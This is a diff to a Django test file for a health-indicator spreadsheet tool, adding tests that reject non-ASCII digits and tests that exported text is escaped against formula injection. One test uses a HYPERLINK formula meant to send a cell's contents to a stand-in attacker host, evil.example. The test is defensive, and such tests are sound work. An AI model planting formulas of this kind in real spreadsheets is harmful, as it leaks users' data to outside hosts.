@@ -366,6 +366,9 @@ class BadFileTests(ExcelTestCase):
             (2.5, "2.5 is not a whole number"),
             ("2,5", "not a whole number"),
             ("abc", "“abc” is not a number"),
+            ("١٢", "“١٢” is not a number"),  # Python's int() and \d read these as 12
+            ("１２", "“１２” is not a number"),
+            ("１２.0", "“１２.0” is not a number"),
             (True, "is not a number"),
             (1_000_001, "too large for one month"),
         ]
@@ -618,3 +621,37 @@ class PermissionTests(PermissionMatrixMixin, ExcelTestCase):
         response = self.client.get(reverse("indicators:report_list"))
         self.assertContains(response, TEMPLATE_URL)
         self.assertContains(response, UPLOAD_URL)
+
+
+class FormulaInjectionTests(ExcelTestCase):
+    """Text the site writes to a spreadsheet never runs as a formula (OWASP)."""
+
+    def test_a_facility_named_like_a_formula_is_written_as_text(self):
+        name = '=HYPERLINK("https://evil.example/?d="&E5,"Klik")'
+        self.pkm_lubuk_pinang.name = name
+        self.pkm_lubuk_pinang.save()
+        content = self.download(
+            self.kapus_lubuk_pinang, facility="P1706001", month_from="2025-05", month_to="2025-05"
+        )
+        sheet = load(content)
+        cell = sheet.cell(excel.FIRST_DATA_ROW, column_of(sheet, "facility_name"))
+        self.assertEqual((cell.value, cell.data_type), ("'" + name, "s"))
+        self.assertFalse(
+            [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+        )
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            self.assertNotIn(b"<f>", archive.read("xl/worksheets/sheet1.xml"))
+        # the file still imports: names are not read back, values are
+        fill(sheet, "P1706001", "2025-05", {"K1": 21})
+        self.upload(self.kapus_lubuk_pinang, save(sheet))
+        self.assertEqual(self.confirm().status_code, 302)
+        self.assertEqual(self.may.values.get(element__code="K1").value, 21)
+
+    def test_safe_cell(self):
+        for text in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-"]:
+            with self.subTest(text=text):
+                self.assertEqual(excel.safe_cell(text), "'" + text)
+        for value in [None, 0, -5, -2.5, 12, "", "Puskesmas", "P1706001", "2025-05", MAY]:
+            with self.subTest(value=value):
+                self.assertEqual(excel.safe_cell(value), value)
+        self.assertIsInstance(excel.safe_cell(-5), int)
